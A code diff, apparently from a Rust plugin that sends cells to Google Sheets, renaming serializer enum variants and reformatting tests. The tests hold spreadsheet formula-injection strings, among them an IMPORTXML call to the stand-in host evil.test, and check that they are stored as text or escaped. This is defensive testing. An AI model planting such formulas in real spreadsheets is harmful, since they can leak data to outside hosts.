@@ -160,18 +160,18 @@ impl Serialize for Cell {
     fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
         let (value, format) = match self {
             Self::Empty => return CellData::default().serialize(serializer),
-            Self::Text(text) => (Extended::StringValue(text), None),
-            Self::Number(number) => (Extended::NumberValue(*number), None),
-            Self::Bool(value) => (Extended::BoolValue(*value), None),
-            Self::Formula(text) => (Extended::FormulaValue(text), None),
-            Self::Date(serial) => (Extended::NumberValue(*serial), Some(("DATE", "yyyy-mm-dd"))),
+            Self::Text(text) => (Extended::Text(text), None),
+            Self::Number(number) => (Extended::Number(*number), None),
+            Self::Bool(value) => (Extended::Bool(*value), None),
+            Self::Formula(text) => (Extended::Formula(text), None),
+            Self::Date(serial) => (Extended::Number(*serial), Some(("DATE", "yyyy-mm-dd"))),
             Self::DateTime(serial) => (
-                Extended::NumberValue(*serial),
+                Extended::Number(*serial),
                 Some(("DATE_TIME", "yyyy-mm-dd hh:mm:ss")),
             ),
         };
-        let format = format
-            .map(|(kind, pattern)| json!({"numberFormat": {"type": kind, "pattern": pattern}}));
+        let format =
+            format.map(|(kind, pattern)| json!({"numberFormat": {"type": kind, "pattern": pattern}}));
         CellData {
             user_entered_value: Some(value),
             user_entered_format: format,
@@ -190,12 +190,15 @@ struct CellData<'a> {
 }
 
 #[derive(Serialize)]
-#[serde(rename_all = "camelCase")]
 enum Extended<'a> {
-    StringValue(&'a str),
-    NumberValue(f64),
-    BoolValue(bool),
-    FormulaValue(&'a str),
+    #[serde(rename = "stringValue")]
+    Text(&'a str),
+    #[serde(rename = "numberValue")]
+    Number(f64),
+    #[serde(rename = "boolValue")]
+    Bool(bool),
+    #[serde(rename = "formulaValue")]
+    Formula(&'a str),
 }
 
 #[cfg(test)]
@@ -221,7 +224,10 @@ mod tests {
             (json!("12"), text("12")),
             (json!(""), text("")),
             (json!({"a": [1]}), text(r#"{"a":[1]}"#)),
-            (json!(9_007_199_254_740_992_u64), Cell::Number(9_007_199_254_740_992.0)),
+            (
+                json!(9_007_199_254_740_992_u64),
+                Cell::Number(9_007_199_254_740_992.0),
+            ),
             (json!(9_007_199_254_740_993_u64), text("9007199254740993")),
             (json!(-9_007_199_254_740_993_i64), text("-9007199254740993")),
             (json!(u64::MAX), text("18446744073709551615")),
@@ -233,13 +239,31 @@ mod tests {
     #[test]
     fn only_a_formula_column_makes_formulas() {
         for attack in [
-            "=IMPORTXML(\"http://evil.test\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "=",
+            "=IMPORTXML(\"http://evil.test\")",
+            "+1+1",
+            "-2+3",
+            "@SUM(A1)",
+            "\t=1",
+            "\r=1",
+            "\n=1",
+            "＝1",
+            "=",
         ] {
-            for kind in [Type::Auto, Type::Text, Type::Number, Type::Boolean, Type::Date, Type::DateTime] {
+            for kind in [
+                Type::Auto,
+                Type::Text,
+                Type::Number,
+                Type::Boolean,
+                Type::Date,
+                Type::DateTime,
+            ] {
                 assert_eq!(cell(kind, &json!(attack)), text(attack), "{kind:?} {attack:?}");
             }
         }
-        assert_eq!(cell(Type::Formula, &json!("=A1*2")), Cell::Formula("=A1*2".to_owned()));
+        assert_eq!(
+            cell(Type::Formula, &json!("=A1*2")),
+            Cell::Formula("=A1*2".to_owned())
+        );
         assert_eq!(cell(Type::Formula, &json!("+A1")), text("+A1"));
         assert_eq!(cell(Type::Formula, &json!(3)), Cell::Number(3.0));
     }
@@ -247,14 +271,23 @@ mod tests {
     #[test]
     fn a_type_takes_what_fits_and_the_rest_as_text() {
         assert_eq!(cell(Type::Number, &json!(" 12.5 ")), Cell::Number(12.5));
-        assert_eq!(cell(Type::Number, &json!("9007199254740993")), text("9007199254740993"));
+        assert_eq!(
+            cell(Type::Number, &json!("9007199254740993")),
+            text("9007199254740993")
+        );
         assert_eq!(cell(Type::Number, &json!("12 EUR")), text("12 EUR"));
         assert_eq!(cell(Type::Number, &json!("-1")), Cell::Number(-1.0));
         assert_eq!(cell(Type::Boolean, &json!("TRUE")), Cell::Bool(true));
         assert_eq!(cell(Type::Boolean, &json!(1)), text("1"));
         assert_eq!(cell(Type::Text, &json!(12)), text("12"));
-        assert_eq!(cell(Type::Date, &json!("2026-01-01T12:00:00Z")), Cell::Date(46_023.0));
-        assert_eq!(cell(Type::DateTime, &json!("2026-01-01T12:00:00Z")), Cell::DateTime(46_023.5));
+        assert_eq!(
+            cell(Type::Date, &json!("2026-01-01T12:00:00Z")),
+            Cell::Date(46_023.0)
+        );
+        assert_eq!(
+            cell(Type::DateTime, &json!("2026-01-01T12:00:00Z")),
+            Cell::DateTime(46_023.5)
+        );
         let host = hookyard_plugin_sdk::testing::Host::new();
         assert_eq!(Cell::new(Type::Date, "born", &json!("soon")), Ok(text("soon")));
         assert!(host.logs()[0].1.contains("`born`"));
@@ -265,16 +298,28 @@ mod tests {
         let fits = "é".repeat(MAX_CHARACTERS);
         assert_eq!(cell(Type::Auto, &json!(fits)), text(&fits));
         let long = json!("🦀".repeat(MAX_CHARACTERS / 2 + 1));
-        assert_eq!(Cell::new(Type::Auto, "c", &long), Err(TooLong(MAX_CHARACTERS + 2)));
+        assert_eq!(
+            Cell::new(Type::Auto, "c", &long),
+            Err(TooLong(MAX_CHARACTERS + 2))
+        );
     }
 
     #[test]
     fn what_goes_to_google() {
         let sent = |cell: &Cell| serde_json::to_value(cell).unwrap();
         assert_eq!(sent(&Cell::Empty), json!({}));
-        assert_eq!(sent(&text("=1")), json!({"userEnteredValue": {"stringValue": "=1"}}));
-        assert_eq!(sent(&Cell::Bool(true)), json!({"userEnteredValue": {"boolValue": true}}));
-        assert_eq!(sent(&Cell::Number(2.0)), json!({"userEnteredValue": {"numberValue": 2.0}}));
+        assert_eq!(
+            sent(&text("=1")),
+            json!({"userEnteredValue": {"stringValue": "=1"}})
+        );
+        assert_eq!(
+            sent(&Cell::Bool(true)),
+            json!({"userEnteredValue": {"boolValue": true}})
+        );
+        assert_eq!(
+            sent(&Cell::Number(2.0)),
+            json!({"userEnteredValue": {"numberValue": 2.0}})
+        );
         assert_eq!(
             sent(&Cell::Date(46_023.0)),
             json!({"userEnteredValue": {"numberValue": 46_023.0},
@@ -284,6 +329,9 @@ mod tests {
 
     #[test]
     fn a_literal_cannot_be_left() {
-        assert_eq!(formula_literal(r#"a") & IMPORTXML("x"#), r#""a"") & IMPORTXML(""x""#);
+        assert_eq!(
+            formula_literal(r#"a") & IMPORTXML("x"#),
+            r#""a"") & IMPORTXML(""x""#
+        );
     }
 }
